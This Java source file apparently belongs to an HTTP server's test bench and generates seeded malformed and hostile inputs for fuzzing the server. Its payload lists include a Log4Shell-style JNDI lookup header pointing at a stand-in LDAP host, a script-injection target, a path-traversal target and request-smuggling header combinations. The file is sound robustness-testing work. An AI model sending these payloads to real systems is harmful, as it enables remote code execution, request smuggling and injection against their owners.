package axon.bench;

import java.util.Arrays;
import java.util.HexFormat;
import java.util.Random;

/**
 * Hostile and malformed input, the same for the same seed: request lines, headers, lengths, chunks,
 * what is not HTTP at all, and mutations of good requests.
 */
final class Inputs {
  private static final String[] METHODS = {
    "GET",
    "POST",
    "get",
    "G\0ET",
    "PROPFIND",
    "CONNECT",
    "",
    " GET",
    "GE T",
    "\u00ff\u00fe",
    "A".repeat(5000)
  };
  private static final String[] TARGETS = {
    "/",
    "*",
    "//",
    "/\0",
    "http://[::1",
    "/%",
    "/%zz",
    "/\u00ff\u00c0\u00af",
    "/..;/..;/",
    "?",
    "",
    "/" + "a".repeat(20_000),
    "/\u001b[31m",
    "/<script>alert(1)</script>",
    "host:443"
  };
  private static final String[] VERSIONS = {
    "HTTP/1.1",
    "HTTP/1.0",
    "HTTP/0.9",
    "HTTP/2.0",
    "HTTP/9.99999999999",
    "http/1.1",
    "",
    "HTTP/1.1 x",
    "RTSP/1.0"
  };
  private static final String[] HEADERS = {
    "Host: a\r\n",
    "Host: a\r\nHost: b\r\n",
    "Host : a\r\n",
    ": empty\r\n",
    "No colon at all\r\n",
    " folded: first\r\n",
    "A: b\r\n folded\r\n",
    "Nul: \0\0\0\r\n",
    "Bare: a\nB: c\r\n",
    "Cr: a\rb\r\n",
    "Content-Length: -1\r\n",
    "Content-Length: 99999999999999999999\r\n",
    "Content-Length: 5\r\nContent-Length: 6\r\n",
    "Content-Length: 0x10\r\n",
    "Transfer-Encoding: chunked\r\n",
    "Transfer-Encoding: chunked\r\nContent-Length: 3\r\n",
    "Transfer-Encoding: gzip\r\n",
    "Transfer-Encoding:\u000bchunked\r\n",
    "Expect: 100-continue\r\nContent-Length: 4\r\n",
    "Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\n",
    "User-Agent: ${jndi:ldap://x.example/a}\r\n",
    "Cookie: " + "c=1; ".repeat(3000) + "\r\n",
    "X: y\r\n".repeat(2000),
    "X-Forwarded-For: 1.2.3.4, ::ffff:1.2.3.4, unknown\r\n",
    "Authorization: Basic \u00ff\u00ff====\r\n"
  };
  private static final String[] CHUNKS = {
    "0\r\n\r\n",
    "5\r\nhello\r\n0\r\n\r\n",
    "fffffffffffffffff\r\n",
    "-1\r\n",
    "g\r\n",
    "5\r\nhel",
    "5;" + "e".repeat(9000) + "\r\nhello\r\n0\r\n\r\n",
    "1\r\nab\r\n",
    "7fffffff\r\nx",
    "0\r\nTrailer: x\r\n\r\n"
  };
  private static final String SUITES = "0026c02bc02fc02cc030cca9cca8c009c013c00ac014009c009d002f";

  private final long seed;
  private final Mix mix = new Mix();

  Inputs(long seed) {
    this.seed = seed;
  }

  /** {@return the bytes of input {@code number}} */
  byte[] input(int number) {
    Random random = new Random(seed * 1_000_003 + number);
    return switch (number % 8) {
      case 0 -> Wire.bytes(requestLine(random) + "Host: a\r\n\r\n");
      case 1 -> Wire.bytes("GET /h" + number + " HTTP/1.1\r\n" + headers(random) + "\r\n");
      case 2 -> Wire.bytes(chunked(random));
      case 3 -> tlsHello(random);
      case 4 -> Wire.bytes("SSH-2.0-" + text(random, 40) + "\r\n" + text(random, 400));
      case 5 -> random(random, 1 + random.nextInt(4000));
      case 6 -> mutated(random, number);
      default -> new byte[1 + random.nextInt(3000)];
    };
  }

  private static String requestLine(Random random) {
    String line = pick(random, METHODS) + " " + pick(random, TARGETS);
    return line + " " + pick(random, VERSIONS) + (random.nextInt(8) == 0 ? "\n" : "\r\n");
  }

  private static String headers(Random random) {
    StringBuilder text = new StringBuilder();
    for (int i = random.nextInt(5); i >= 0; i--) {
      text.append(pick(random, HEADERS));
    }
    return text.toString();
  }

  private static String chunked(Random random) {
    String head = "POST /c HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n";
    return head + pick(random, CHUNKS) + pick(random, CHUNKS);
  }

  private static byte[] tlsHello(Random random) {
    String hello = "16030100c2010000be0303" + hex(random, 32) + "20" + hex(random, 32);
    byte[] bytes = HexFormat.of().parseHex(hello + SUITES + "0035000a0100004f");
    byte[] cut = new byte[1 + random.nextInt(bytes.length + 200)];
    System.arraycopy(bytes, 0, cut, 0, Math.min(bytes.length, cut.length));
    return cut;
  }

  private byte[] mutated(Random random, int number) {
    byte[] bytes = mix.request(number);
    for (int i = random.nextInt(12); i >= 0; i--) {
      bytes[random.nextInt(bytes.length)] = (byte) random.nextInt(256);
    }
    return Arrays.copyOf(bytes, 1 + random.nextInt(bytes.length));
  }

  private static String pick(Random random, String[] from) {
    return from[random.nextInt(from.length)];
  }

  private static String text(Random random, int length) {
    return new String(random(random, length), Wire.CHARSET);
  }

  private static String hex(Random random, int bytes) {
    return HexFormat.of().formatHex(random(random, bytes));
  }

  private static byte[] random(Random random, int length) {
    byte[] bytes = new byte[length];
    random.nextBytes(bytes);
    return bytes;
  }
}
